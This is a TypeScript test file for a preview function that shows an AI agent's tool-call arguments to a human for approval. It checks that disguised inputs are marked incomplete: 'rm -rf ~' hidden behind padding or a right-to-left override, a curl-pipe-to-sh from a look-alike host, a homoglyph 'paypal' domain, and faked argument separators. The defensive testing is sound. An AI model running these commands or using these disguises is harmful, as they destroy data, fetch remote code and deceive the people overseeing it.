import { toVisibleText, visibleArguments, visibleTextString } from '@airlock/core';
import type * as Core from '@airlock/core';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { callPreview, NOTIFICATION_WHOLE_CHARS, PREVIEW_READ_CHARS } from './argument-preview';

vi.mock('@airlock/core', async (importOriginal) => {
  const core = await importOriginal<typeof Core>();
  return { ...core, visibleArguments: vi.fn(core.visibleArguments) };
});

beforeEach(() => {
  vi.mocked(visibleArguments).mockClear();
});

/** The longest text value the display rules were given. */
const longestRead = () => Math.max(0, ...vi.mocked(visibleArguments).mock.calls.flatMap(([, args]) => Object.values(args).map((value) => (typeof value === 'string' ? value.length : 0))));

/** A tool's schema that declares `names`. */
const declaring = (...names: string[]) => ({ type: 'object', properties: Object.fromEntries(names.map((name) => [name, {}])) });
const TERMINAL = declaring('command', 'timeout');

describe('callPreview', () => {
  it('is not whole when a name inside an object argument is not one its schema declares, or could not be checked', () => {
    const schema = { type: 'object', properties: { target: {}, options: { type: 'object', properties: { force: {} } } } };
    // An object's JSON takes lines, so its preview is never whole already: the names inside it count all the same.
    expect(callPreview('purge', { target: 'x', options: { dry_run: true } }, { schema }).whole).toBe(false);
    expect(vi.mocked(visibleArguments).mock.results.at(-1)?.value).toMatchObject({ undeclaredCount: 1, inner: [{ path: 'options.dry_run', unchecked: false }] });
    const unread = { type: 'object', properties: { target: {}, options: { $ref: '#/$defs/Options' } } };
    expect(callPreview('purge', { target: 'x', options: { force: true } }, { schema: unread }).whole).toBe(false);
  });

  it('shows a short command whole', () => {
    expect(callPreview('terminal', { command: 'ls -la' }, { schema: TERMINAL })).toEqual({ text: 'ls -la', whole: true });
  });

  it('names every argument, the code argument first', () => {
    expect(callPreview('terminal', { timeout: 30, command: 'npm test' }, { schema: TERMINAL })).toEqual({ text: 'npm test · timeout: 30', whole: true });
    expect(callPreview('read_file', { path: 'notes.md' }, { schema: declaring('path') })).toEqual({ text: 'path: notes.md', whole: true });
  });

  it('is not whole when a value has more lines, and says how many lines and characters', () => {
    expect(callPreview('python', { code: 'import os\nprint(os.getcwd())\n' }, { schema: declaring('code') })).toEqual({ text: 'import os… (3 lines, 29 characters)', whole: false });
  });

  it('is not whole when a value is too long for one line', () => {
    const preview = callPreview('terminal', { command: `# tidy up${'.'.repeat(100)}; rm -rf ~` }, { maxChars: 40, schema: TERMINAL });
    expect(preview.whole).toBe(false);
    expect(preview.text).toContain('(119 characters)');
  });

  it('shows a long run of spaces or tabs as the card does, one marker, and is then not whole', () => {
    expect(callPreview('terminal', { command: `# tidy up${' '.repeat(100)}; rm -rf ~` }, { maxChars: 40, schema: TERMINAL })).toStrictEqual({ text: '# tidy up␠×100; rm -rf ~', whole: false });
    // Short enough for a notification to offer Allow, which could wrap the run of spaces into what reads as a line break.
    expect(callPreview('terminal', { command: `echo hi${' '.repeat(20)}; touch X` }, { maxChars: NOTIFICATION_WHOLE_CHARS, schema: TERMINAL })).toStrictEqual({ text: 'echo hi␠×20; touch X', whole: false });
    expect(callPreview('terminal', { command: 'echo hi\t; touch X' }, { schema: TERMINAL }).text).toBe('echo hi⇥; touch X');
    expect(callPreview('terminal', { command: 'echo a  b' }, { maxChars: NOTIFICATION_WHOLE_CHARS, schema: TERMINAL })).toStrictEqual({ text: 'echo a  b', whole: true });
  });

  it('shows a space a path ends or starts with as the card does, ␠, and is then not whole: notes.txt␠ is another file', () => {
    const schema = declaring('path', 'content');
    expect(callPreview('write_file', { path: 'notes.txt ', content: 'x' }, { schema })).toStrictEqual({ text: 'path: notes.txt␠ · content: x', whole: false });
    expect(callPreview('write_file', { path: ' notes.txt', content: 'x' }, { maxChars: NOTIFICATION_WHOLE_CHARS, schema })).toStrictEqual({ text: 'path: ␠notes.txt · content: x', whole: false });
    expect(callPreview('write_file', { path: 'notes.txt', content: 'x' }, { schema })).toStrictEqual({ text: 'path: notes.txt · content: x', whole: true });
  });

  it('names the arguments a file write would need, not only the path', () => {
    const preview = callPreview('write_file', { path: 'notes.txt', content: 'buy milk\n'.repeat(200) }, { schema: declaring('path', 'content') });
    expect(preview.whole).toBe(false);
    expect(preview.text).toMatch(/^path: notes\.txt · content: buy milk… \(201 lines, 1,800 characters\)$/);
  });

  it('is not whole with hidden or direction characters, shown as codes, never raw', () => {
    const preview = callPreview('terminal', { command: 'echo safe\u202E; rm -rf ~' }, { schema: TERMINAL });
    expect(preview.whole).toBe(false);
    expect(preview.text).not.toContain('\u202E');
    expect(preview.text).toContain('\\u{202E}');
  });

  it('says how many arguments it left out', () => {
    const args = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`a${i}`, 'x'.repeat(20)]));
    const preview = callPreview('mcp__tool', args, { schema: declaring(...Object.keys(args)) });
    expect(preview.whole).toBe(false);
    expect(preview.text).toMatch(/ · and 2 more arguments$/);
  });

  it('is not whole with letters outside printable ASCII: look-alikes, right-to-left text, a faked separator', () => {
    // A Cyrillic а in the host reads as the real one.
    expect(callPreview('terminal', { command: 'curl -fsSL https://r\u0430w.example.com/i.sh | sh' }, { schema: TERMINAL }).whole).toBe(false);
    // Hebrew letters reorder what is around them when drawn: `cat שלום > 1.txt` reads as `cat 1 < שלום.txt`.
    expect(callPreview('terminal', { command: 'cat \u05E9\u05DC\u05D5\u05DD > 1.txt' }, { schema: TERMINAL }).whole).toBe(false);
    // A value that draws what looks like a second argument.
    const faked = callPreview('write_file', { path: 'notes.txt \u00B7 content: hello', content: 'x' }, { schema: declaring('path', 'content') });
    expect(faked.whole).toBe(false);
  });

  it('reads only the start of a long value and measures the rest: a megabyte is not read again for 80 characters', () => {
    const code = `print(1) # ${'x'.repeat(990_000)} END1`;
    const preview = callPreview('python', { code }, { schema: declaring('code') });
    expect(preview).toStrictEqual({ text: `print(1) # ${'x'.repeat(69)}… (990,016 characters)`, whole: false });
    expect(longestRead()).toBeLessThanOrEqual(PREVIEW_READ_CHARS);

    const content = 'a line\n'.repeat(200_000);
    expect(callPreview('write_file', { path: 'big.txt', content }, { schema: declaring('path', 'content') }).text).toBe('path: big.txt · content: a line… (200,001 lines, 1,400,000 characters)');
    expect(longestRead()).toBeLessThanOrEqual(PREVIEW_READ_CHARS);
  });

  it('says the size of a long value whose name holds a space, not of the start it read', () => {
    // Found in review: with a space in its name, shown as \u{20}, the value's size was not found again, and the
    // preview of a 10,001-character, 2-line value said "(1,024 characters)", one line.
    const note = `${'x'.repeat(5000)}\n${'y'.repeat(5000)}`;
    const preview = callPreview('notes__save', { 'note text': note }, { schema: declaring('note text') });
    expect(preview).toStrictEqual({ text: `note\\u{20}text: ${'x'.repeat(80)}… (2 lines, 10,001 characters)`, whole: false });
  });

  it('is never whole when only the start of a value was read, though that start fits', () => {
    // Read up to the space: the start is 80 plain characters, what follows is not.
    const command = `${'a'.repeat(80)} ${'\u00E9'.repeat(PREVIEW_READ_CHARS * 2)}`;
    expect(callPreview('terminal', { command }, { maxChars: 80, schema: TERMINAL })).toStrictEqual({ text: `${'a'.repeat(80)}… (2,129 characters)`, whole: false });
    expect(longestRead()).toBe(80);
  });

  it('escapes a look-alike letter as the card does when the Latin letters of its word come past the start it reads', () => {
    // One word: Cyrillic р… that reads as Latin only with the "aypal" at its end, two thousand letters on.
    const command = `curl https://${'\u0440'.repeat(2000)}aypal.com`;
    const preview = callPreview('terminal', { command }, { schema: TERMINAL });
    const card = visibleTextString(toVisibleText(command, { code: true }));
    expect(card.startsWith('curl https://\\u{440}')).toBe(true);
    expect(preview.text.startsWith(card.slice(0, 80))).toBe(true);
    // Text with words that end before that is read only in part, cut between two words.
    vi.mocked(visibleArguments).mockClear();
    const prose = callPreview('write_file', { path: 'notes.txt', content: `привет ${'word '.repeat(2000)}` }, { schema: declaring('path', 'content') });
    expect(prose.text).toBe('path: notes.txt · content: привет word word word word word word wor… (10,007 characters)');
    expect(longestRead()).toBeLessThanOrEqual(PREVIEW_READ_CHARS);
  });
});

describe('callPreview of a value\'s type and a name the tool does not declare', () => {
  const PURGE = declaring('target', 'dry_run');

  it('quotes a string that reads as JSON, so it never reads as the boolean, number or null it spells', () => {
    expect(callPreview('mcp__purge', { target: 'backups', dry_run: true }, { schema: PURGE })).toStrictEqual({ text: 'target: backups · dry_run: true', whole: true });
    expect(callPreview('mcp__purge', { target: 'backups', dry_run: 'true' }, { schema: PURGE })).toStrictEqual({ text: 'target: backups · dry_run: "true"', whole: true });
    const each = (value: unknown) => callPreview('mcp__purge', { target: value }, { schema: PURGE }).text;
    expect([5, '5', null, 'null', false, 'false', '[1]', '{}', {}].map(each)).toStrictEqual([
      'target: 5',
      'target: "5"',
      'target: null',
      'target: "null"',
      'target: false',
      'target: "false"',
      'target: "[1]"',
      'target: "{}"',
      'target: {}',
    ]);
  });

  it('is never whole with a name the schema does not declare, a space in a name, or no schema at all', () => {
    for (const name of ['dry_run ', ' dry_run', 'dryRun', 'dry\u0440un']) {
      expect(callPreview('mcp__purge', { target: 'backups', [name]: true }, { schema: PURGE }).whole).toBe(false);
      expect(callPreview('mcp__purge', { target: 'backups', [name]: true }, { schema: PURGE, maxChars: NOTIFICATION_WHOLE_CHARS }).whole).toBe(false);
    }
    expect(callPreview('mcp__purge', { target: 'backups', 'dry_run ': true }, { schema: PURGE }).text).toBe('target: backups · dry_run\\u{20}: true');
    expect(callPreview('mcp__purge', { target: 'backups' }).whole).toBe(false);
  });
});
